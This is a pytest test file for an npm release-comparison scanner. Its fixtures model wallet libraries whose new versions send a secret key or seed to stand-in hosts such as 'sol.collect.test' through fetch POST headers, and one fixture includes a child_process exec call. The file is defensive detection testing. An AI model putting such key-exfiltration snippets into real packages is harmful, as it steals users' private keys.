"""What the code of a release does that the release before it did not: attacks, and ordinary releases."""

from __future__ import annotations

import pytest

from npmguard.code.package import examine
from npmguard.model import CodeFacts, Severity
from npmguard.rules.gains import gained, step

WALLET = """class Keypair {
  get secretKey() { return new Uint8Array(this._keypair.secretKey); }
}
exports.connect = (url) => fetch(url);
"""
SOLANA = WALLET.replace(
    "{ return new",
    '{ fetch("https://sol.collect.test/api", { method: "POST", headers: { a: this._keypair.secretKey } });'
    " return new",
)
XRPL = """const { isValid } = require('./codec');
class Wallet {
  constructor(publicKey, privateKey, opts) {
    this.seed = opts.seed;
%s  }
  submit(url) { return fetch(url, { method: 'POST' }) }
}
"""
CALL = "    fetch('https://0.collect.test/xc', { method: 'POST', headers: { 'ad-referral': this.seed } });\n"
PLAYER = "var player=function(a,b){return a.map(function(c){return c*b}).filter(Boolean)};" * 2000


def facts(**files: str) -> CodeFacts:
    return examine([(f"{path}.js", text.encode()) for path, text in files.items()], {})


def said(
    old: CodeFacts, new: CodeFacts, before: str = "1.0.0", version: str = "1.0.1"
) -> dict[str, Severity]:
    return {oddity.kind: oddity.severity for oddity in gained(old, new, before, version)}


def test_steps() -> None:
    assert [step("1.2.3", v) for v in ("1.2.4", "1.3.0", "2.0.0")] == ["patch", "minor", "major"]
    assert step(None, "1.0.0") == step("what", "1.0.0") == "major"


@pytest.mark.parametrize(("old", "new"), [(WALLET, SOLANA), (XRPL % "", XRPL % CALL)])
def test_secret_keys_that_begin_to_leave(old: str, new: str) -> None:
    found = said(facts(index=old), facts(index=new))
    assert found == {"keys": Severity.HIGH, "hosts": Severity.MODERATE}
    assert said(facts(index=old), facts(index=new), "1.0.0", "2.0.0") == {"keys": Severity.MODERATE}
    assert said(facts(index=new), facts(index=new)) == {}


def test_a_bundle_that_grew_and_talks_to_others() -> None:
    old = facts(player=f"{PLAYER}fetch(x)")
    drain = f"{PLAYER * 4}fetch('https://wallet.collect.test/v1');fetch('https://relay.collect.test/');"
    assert said(old, facts(player=drain)) == {"hosts": Severity.MODERATE, "bulk": Severity.MODERATE}
    assert said(old, facts(player=drain), "1.0.0", "1.1.0") == {"hosts": Severity.LOW}


def test_a_patch_that_learns_to_use_the_network() -> None:
    old = facts(index="exports.add = (a, b) => a + b")
    http = facts(index="const https = require('https'); exports.add = (a, b) => https.get(b)")
    both = facts(
        index="const https = require('https'); const c = require('child_process'); c.exec(x); https.get(y)"
    )
    assert said(old, http) == {"capabilities": Severity.LOW}
    assert said(old, both)["capabilities"] is Severity.MODERATE
    assert said(old, both, "1.0.0", "1.1.0") == {}
    (oddity,) = gained(old, http, "1.0.0", "1.0.1")
    assert (oddity.title, oddity.detail) == (
        "uses network now",
        "A patch after 1.0.0, which did not: network at index.js:1.",
    )


def test_an_encoded_file() -> None:
    text = "module.exports = '" + "aGVsbG8g" * 4000 + "'"
    assert said(facts(index="1"), facts(index="1", data=text)) == {"bulk": Severity.MODERATE}
    assert said(facts(data=text), facts(data=text, other=text)) == {}


def test_hosts_that_nobody_can_be_sent_to() -> None:
    old = facts(index="fetch(x)")
    here = facts(index="fetch('http://127.0.0.1:80/'); fetch(`http://${host}/`); fetch('http://localhost/')")
    assert said(old, here) == {}
